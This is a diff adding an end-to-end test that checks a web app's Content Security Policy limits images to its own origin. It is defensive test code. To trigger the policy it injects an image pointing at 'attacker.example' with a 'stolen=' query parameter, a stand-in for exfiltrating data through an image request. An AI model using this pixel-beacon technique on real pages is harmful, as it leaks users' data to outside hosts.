@@ -106,6 +106,28 @@ test('the page cannot call the service itself: its CSP allows connections to its
   expect(await violations).toBe('connect-src')
 })
 
+test('the page loads images from its own origin only, so a logo URL a service names cannot carry anything out', async ({ open, app }) => {
+  const page = await open('/chains')
+  await expect(page.getByRole('table', { name: 'Chains' })).toBeVisible()
+  // What the app itself shows comes from its own origin…
+  for (const src of await page.locator('img').evaluateAll((imgs) => imgs.map((i) => (i as HTMLImageElement).src)))
+    expect(new URL(src).origin).toBe(app.host.origin)
+  // …and an image from anywhere else is refused before any request leaves.
+  const violation = page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true })
+        setTimeout(() => resolve('none'), 5_000)
+      }),
+  )
+  await page.evaluate(() => {
+    const img = new Image()
+    img.src = 'https://attacker.example/pixel.png?stolen=anything'
+    document.body.append(img)
+  })
+  expect(await violation).toBe('img-src')
+})
+
 test('a page of another origin on this machine cannot drive the bridge', async ({ open, app }) => {
   // The tab holds the host's session, as a person's browser would.
   const tab = await open('/settings')
